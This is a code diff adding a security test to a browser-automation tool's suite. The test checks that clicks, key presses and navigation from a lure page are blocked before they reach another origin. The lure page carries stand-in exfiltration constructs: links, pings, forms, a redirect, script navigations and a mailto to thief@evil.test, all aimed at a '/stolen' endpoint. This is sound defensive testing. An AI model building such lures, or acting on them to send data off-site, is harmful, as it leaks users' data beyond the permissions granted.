@@ -103,6 +103,61 @@ export function safetyCases(bench) {
       await client.call('session.disconnect', { closeTabs: true });
     });
 
+    // SEC-14: link, report, form, Enter, pointer, redirect and script
+    test('what leads elsewhere is stopped before a byte leaves', async () => {
+      const { site } = bench;
+      const evil = `${site.other}/stolen`;
+      site.add('/stolen', '<title>Stolen</title><h1>Thanks</h1>');
+      site.add('/lure', `<title>Lure</title><h1>Lure</h1><a href="${evil}?by=link"><b>Link</b></a> <a href="/two" ping="${evil}?by=ping">Report</a> <a href="mailto:thief@evil.test?body=all">Mail</a>
+        <form action="${evil}"><input type="hidden" name="action" value="/two"><input name="by" aria-label="Word"><button>Send</button></form>
+        <form action="/two"><button formaction="${evil}?by=button" id="own">Button</button></form><label for="own" style="display:block">Button</label>
+        <a href="/redirect?to=${encodeURIComponent(`${evil}?by=redirect`)}">Redirect</a> <a href="/two" onmousedown="this.href = '${evil}?by=swap'">Swap</a>
+        <button onclick="location = '${evil}?by=script'">Script</button> <button onclick="const f = document.forms[0]; f.method = 'post'; f.target = 'inner'; f.submit()">Frame</button><iframe name="inner" srcdoc="<p>Inner</p>"></iframe>`);
+      const client = await bench.on('/lure');
+      const within = async (/** @type {string} */ command, /** @type {object} */ payload, /** @type {string[]} */ sendOrigins = []) => client.raw(command, payload, { frameOrigins: [], sendOrigins });
+      const stolen = () => site.requests.filter((path) => path.startsWith('/stolen'));
+      const ref = Object.fromEntries(await Promise.all(['Link', 'Report', 'Mail', 'Word', 'Send', 'Button', 'Redirect', 'Swap', 'Script', 'Frame'].map(async (name) => [name, await client.ref(`"${name}"`)])));
+      const label = await client.eval('(() => { const b = document.querySelector("label").getBoundingClientRect(); return { x: b.x + 5, y: b.y + 5 }; })()');
+      const told = [
+        ['interact.click', { ref: ref.Link }, `${evil}?by=link`],
+        ['interact.press', { ref: ref.Link, key: 'Enter' }, `${evil}?by=link`],
+        ['interact.click', { ref: ref.Report }, `${evil}?by=ping`],
+        ['interact.click', { ref: ref.Mail }, 'mailto:thief@evil.test?body=all'],
+        ['interact.click', { ref: ref.Send }, evil],
+        ['interact.press', { ref: ref.Word, key: 'Enter' }, evil],
+        ['interact.type', { ref: ref.Word, text: 'secret', submit: true }, evil],
+        ['interact.click', { ref: ref.Button }, `${evil}?by=button`],
+        ['pointer.down', label, `${evil}?by=button`],
+      ];
+      for (const [command, payload, leadsTo] of told) {
+        const { error } = await within(/** @type {string} */ (command), /** @type {object} */ (payload));
+        assert.deepEqual([error?.details.reason, error?.details.leadsTo, error?.details.dispatched], ['permission_denied', leadsTo, false], `${command} ${leadsTo}`);
+      }
+      await client.eval(`document.querySelector('[name=by]').focus(); 1`);
+      assert.equal((await within('interact.press', { key: 'Enter' })).error?.details.leadsTo, evil, 'whatever has the focus');
+      for (const by of ['Redirect', 'Swap', 'Script', 'Frame']) {
+        let { error } = await within('interact.click', { ref: ref[by] });
+        // A frame is on its way when the click has been answered: then the next call hears of it.
+        await bench.browser.until(async () => (error ??= (await within('nav.snapshot', {})).error), by);
+        assert.deepEqual([error?.details.reason, error?.details.leadsToOrigin, error?.details.late], ['permission_denied', site.other, by === 'Frame' ? error.details.late : undefined], by);
+        assert.equal(error.details.method, by === 'Frame' ? 'POST' : 'GET');
+        assert.equal(await client.eval('document.title'), 'Lure', `${by} leaves the page as it is`);
+      }
+      const led = await within('nav.goto', { url: `${site.base}/redirect?to=${encodeURIComponent(evil)}` });
+      assert.deepEqual([led.error?.details.leadsTo, led.error?.details.dispatched], [evil, true]);
+      const opened = await within('targets.new', { url: `${site.base}/redirect?to=${encodeURIComponent(evil)}` });
+      assert.equal(opened.error?.details.leadsTo, evil);
+      assert.equal((await client.call('targets.list')).targets.length, 1, 'the tab that was opened for it is gone');
+      assert.deepEqual(stolen(), []);
+      assert.deepEqual((await within('targets.list', {})).payload.element, undefined);
+      assert.deepEqual((await client.raw('targets.list', {}, { describe: { targetId: '', ref: ref.Send } })).payload.element, { role: 'button', name: 'Send' });
+      const allowed = await within('interact.click', { ref: ref.Link }, [site.other]);
+      assert.equal(allowed.payload?.url, `${evil}?by=link`, JSON.stringify(allowed.error));
+      assert.deepEqual(stolen(), ['/stolen?by=link']);
+      assert.equal((await within('nav.goto', { url: `${site.base}/lure` })).type, 'ops_response');
+      await client.call('session.disconnect', { closeTabs: true });
+    });
+
     // SEC-13: nor is it seen, however the page bends, mirrors or swaps it
     test('no picture shows a frame without a right at its origin', async () => {
       const { port } = new URL(bench.site.base);
